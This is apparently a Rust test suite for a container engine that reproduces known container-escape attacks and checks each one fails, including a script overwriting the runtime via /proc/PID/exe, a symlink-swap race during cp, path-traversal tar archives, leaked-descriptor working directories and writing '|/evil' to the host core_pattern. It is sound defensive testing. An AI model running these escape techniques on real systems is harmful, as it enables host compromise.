//! Attacks on other engines that must fail here.

#![forbid(unsafe_code)]

use anyhow::{Context, Result, ensure};
use std::fs;
use std::os::unix::fs::symlink;
use tests::engine::{BUSYBOX, binary};
use tests::sh::Cmd;
use tests::{Engine, image, skip_unless_root};

const CORE_PATTERN: &str = "/proc/sys/kernel/core_pattern";

/// CVE-2019-5736: the program that enters a container is reached through /proc/PID/exe and overwritten from inside.
///
/// A watcher in the container keeps a descriptor of every program that is not its own and writes to it once that program has
/// ended; meanwhile scripts whose interpreter is `/proc/self/exe` are executed over and over.
#[test]
fn cve_2019_5736_overwriting_the_runtime() -> Result<()> {
    if skip_unless_root() {
        return Ok(());
    }
    let engine = Engine::with_busybox("cve-2019-5736")?;
    let before = checksum()?;
    let watcher = concat!(
        "printf '#!/proc/self/exe\\n' > /evil; chmod +x /evil; echo up\n",
        "while :; do for p in /proc/[0-9]*; do l=$(readlink $p/exe) || continue\n",
        "  case \"$l\" in /bin/busybox) ;; *) echo \"$l\" >> /seen\n",
        "    ( exec 3< $p/exe && sleep 0.1 && echo pwned > /proc/self/fd/3 && echo \"$l\" >> /won ) 2>> /errors & ;; esac\n",
        "done; done"
    );
    engine.ok(&["run", "-d", "--name", "watcher", BUSYBOX, "sh", "-c", watcher])?;
    tests::sh::eventually("the watcher is up", 10, || engine.ok(&["logs", "watcher"]).ok().filter(|done| done.text() == "up"))?;
    for _ in 0..12 {
        engine.run(&["exec", "watcher", "/evil"])?;
        engine.run(&["exec", "watcher", "/proc/self/exe", "--version"])?;
    }
    std::thread::sleep(std::time::Duration::from_millis(300));
    let won = engine.run(&["exec", "watcher", "cat", "/won"])?;
    ensure!(won.code != 0, "programs were overwritten: {}", won.stdout);
    ensure!(checksum()? == before, "the binary on the host has changed");
    ensure!(engine.ok(&["run", "--rm", BUSYBOX, "echo", "fine"])?.text() == "fine");
    Ok(())
}

/// The same through an image whose entrypoint is the program that starts it.
#[test]
fn cve_2019_5736_by_entrypoint() -> Result<()> {
    if skip_unless_root() {
        return Ok(());
    }
    let engine = Engine::with_busybox("cve-2019-5736-entry")?;
    let before = checksum()?;
    let done = engine.run(&["run", "--rm", "--entrypoint", "/proc/self/exe", BUSYBOX, "engine", "--help"])?;
    ensure!(done.code != 0 || !done.stdout.contains("data-root"), "the engine's own program runs in the container: {done:?}");
    ensure!(checksum()? == before);
    Ok(())
}

/// CVE-2018-15664, CVE-2026-41568 and -42306: `cp` while a container swaps a directory on the way for a link that leads out.
///
/// A container exchanges `/swap/d` between a directory and a link to the path of a folder of the host, as fast as it can; `cp` in and
/// out must never touch that folder. (Whatever it meets inside of the container is fine, and so are errors.)
#[test]
fn cve_2018_15664_links_swapped_during_cp() -> Result<()> {
    if skip_unless_root() {
        return Ok(());
    }
    let engine = Engine::with_busybox("cve-2018-15664")?;
    let folder = engine.dir().join("cp");
    fs::create_dir(&folder)?;
    let outside = folder.join("outside");
    fs::create_dir(&outside)?;
    fs::write(outside.join("secret"), "secret of the host")?;
    let own = folder.join("own");
    fs::write(&own, "from the host")?;
    let leads_out = outside.to_str().context("a path")?;
    let racer = format!(
        "mkdir -p /swap/real; echo inside > /swap/real/secret; ln -s {leads_out} /swap/link; echo up\n\
         while :; do mv /swap/real /swap/d; mv /swap/d /swap/real; mv /swap/link /swap/d; mv /swap/d /swap/link; done"
    );
    engine.ok(&["run", "-d", "--name", "racer", BUSYBOX, "sh", "-c", &racer])?;
    tests::sh::eventually("the racer is up", 10, || engine.ok(&["logs", "racer"]).ok().filter(|done| done.text() == "up"))?;
    let own = own.to_str().context("a path")?;
    let (mut went_in, mut came_out) = (0, 0);
    for round in 0..40 {
        went_in += u32::from(engine.run(&["cp", own, "racer:/swap/d/planted"])?.code == 0);
        let target = folder.join(format!("got{round}"));
        came_out += u32::from(engine.run(&["cp", "racer:/swap/d/secret", target.to_str().context("a path")?])?.code == 0);
        ensure!(!fs::read_to_string(&target).is_ok_and(|text| text.contains("host")), "a file of the host was read");
    }
    eprintln!("of 40 copies each way {went_in} went in and {came_out} came out");
    ensure!(went_in > 0 && came_out > 0, "no copy met the directory, so that nothing was tried");
    ensure!(fs::read_dir(&outside)?.count() == 1, "a file was planted on the host");
    engine.ok(&["rm", "-f", "racer"])?;
    Ok(())
}

/// CVE-2019-14271 cannot be tried: `cp` runs no program and loads no library. What is left is that an archive which asks for
/// files outside, by `..`, by links or by hard links, makes none.
#[test]
fn hostile_archives_stay_in_the_container() -> Result<()> {
    if skip_unless_root() {
        return Ok(());
    }
    let engine = Engine::with_busybox("hostile-cp")?;
    engine.ok(&["run", "-d", "--name", "target", BUSYBOX, "sleep", "300"])?;
    let folder = engine.dir().join("cp");
    fs::create_dir(&folder)?;
    let outside = folder.join("outside");
    fs::create_dir(&outside)?;
    let leads_out = outside.to_str().context("a path")?;
    let script = format!(
        "cd {0} && mkdir t && ln -s {leads_out} t/link && tar cf a.tar t/link && rm t/link && mkdir t/link && echo x > t/link/planted && \
         tar rf a.tar t/link/planted && tar cPf b.tar --transform 's,^t,../../../../../..{leads_out},' t/link/planted",
        folder.display()
    );
    Cmd::new("sh").args(["-c", &script]).ok()?;
    for archive in ["a.tar", "b.tar"] {
        let bytes = fs::read(folder.join(archive))?;
        engine.cais().args(["cp", "-", "target:/tmp"]).stdin(bytes).run()?;
    }
    ensure!(fs::read_dir(&outside)?.count() == 0, "an archive made a file on the host");
    engine.ok(&["rm", "-f", "target"])?;
    Ok(())
}

/// CVE-2024-21626: a working directory of `/proc/self/fd/N` leads out through a leaked descriptor.
#[test]
fn cve_2024_21626_leaked_working_directory() -> Result<()> {
    if skip_unless_root() {
        return Ok(());
    }
    let engine = Engine::with_busybox("cve-2024-21626")?;
    let marker = engine.dir().join("marker");
    fs::write(&marker, "host")?;
    let climb = format!("cat {}{} 2>/dev/null; ls -id /proc/1/root/. . 2>/dev/null; true", "../".repeat(12), marker.display());
    engine.ok(&["run", "-d", "--name", "victim", BUSYBOX, "sleep", "300"])?;
    for number in 3..24 {
        let dir = format!("/proc/self/fd/{number}");
        let done = engine.run(&["run", "--rm", "-w", &dir, BUSYBOX, "sh", "-c", &climb])?;
        ensure!(!done.stdout.contains("host"), "run -w {dir} leads to the host");
        let done = engine.run(&["exec", "-w", &dir, "victim", "sh", "-c", &climb])?;
        ensure!(!done.stdout.contains("host"), "exec -w {dir} leads to the host");
        engine.ok(&["exec", "victim", "ln", "-sf", &dir, "/link"])?;
        let done = engine.run(&["exec", "-w", "/link", "victim", "sh", "-c", &climb])?;
        ensure!(!done.stdout.contains("host"), "exec -w of a link to {dir} leads to the host");
    }
    Ok(())
}

/// What a container starts with: its three streams, and no other descriptor.
#[test]
fn no_descriptor_is_leaked() -> Result<()> {
    if skip_unless_root() {
        return Ok(());
    }
    let engine = Engine::with_busybox("descriptors")?;
    // The shell's own listing opens one more, which is gone by the time it is resolved.
    let list = "cd /proc/self/fd; for f in *; do [ -e $f ] && echo $f; done; true";
    engine.ok(&["run", "-d", "--name", "victim", BUSYBOX, "sleep", "300"])?;
    let started = engine.ok(&["run", "--rm", BUSYBOX, "sh", "-c", list])?;
    let entered = engine.ok(&["exec", "victim", "sh", "-c", list])?;
    for shown in [started, entered] {
        ensure!(shown.stdout.split_whitespace().eq(["0", "1", "2"]), "descriptors: {}", shown.stdout);
    }
    Ok(())
}

/// CVE-2025-31133 and -52565: /dev/null (which masks paths) and /dev/console are links that lead into /proc.
#[test]
fn cve_2025_31133_masking_through_links() -> Result<()> {
    if skip_unless_root() {
        return Ok(());
    }
    let engine = Engine::with_busybox("cve-2025-31133")?;
    let pattern = fs::read_to_string(CORE_PATTERN)?;
    let dev = engine.dir().join("dev");
    fs::create_dir(&dev)?;
    for name in ["null", "console", "ptmx", "zero"] {
        symlink(CORE_PATTERN, dev.join(name))?;
    }
    let script = concat!(
        "for f in /proc/kcore /proc/keys /proc/timer_list /proc/sysrq-trigger /dev/null /dev/console; do ",
        "echo '|/evil' > $f; cat $f; done 2>/dev/null; cat /proc/sys/kernel/core_pattern"
    );
    let volume = format!("{}:/dev", dev.display());
    for terminal in [&[][..], &["-t"]] {
        let args = [&["run", "--rm", "-v", &volume], terminal, &[BUSYBOX, "sh", "-c", script]].concat();
        let done = engine.run(&args)?;
        ensure!(fs::read_to_string(CORE_PATTERN)? == pattern, "the container changed the host's core pattern: {done:?}");
        ensure!(!done.stdout.contains("|/evil"), "{done:?}");
    }
    Ok(())
}

/// An image whose /proc, /sys and /dev are links to elsewhere gets nothing mounted there.
#[test]
fn mount_points_that_are_links() -> Result<()> {
    if skip_unless_root() {
        return Ok(());
    }
    let engine = Engine::start("mount-links")?;
    let root = engine.dir().join("root");
    image::busybox_root(&tests::sh::which("busybox").context("busybox")?, &root)?;
    let outside = engine.dir().join("outside");
    fs::create_dir(&outside)?;
    for name in ["proc", "sys", "dev"] {
        fs::remove_dir(root.join(name))?;
        symlink(format!("{}{}", "../".repeat(20), outside.display()), root.join(name))?;
    }
    let tar = engine.dir().join("links.tar");
    Cmd::new("tar").arg("-C").arg(&root).arg("-cf").arg(&tar).arg(".").ok()?;
    engine.cais().arg("import").arg(&tar).arg("quay/links:1").ok()?;
    engine.run(&["run", "--rm", "quay/links:1", "true"])?;
    ensure!(fs::read_dir(&outside)?.count() == 0, "something was mounted or made in {}", outside.display());
    Ok(())
}

fn checksum() -> Result<String> {
    Ok(Cmd::new("sha256sum").arg(binary()?).ok()?.stdout)
}
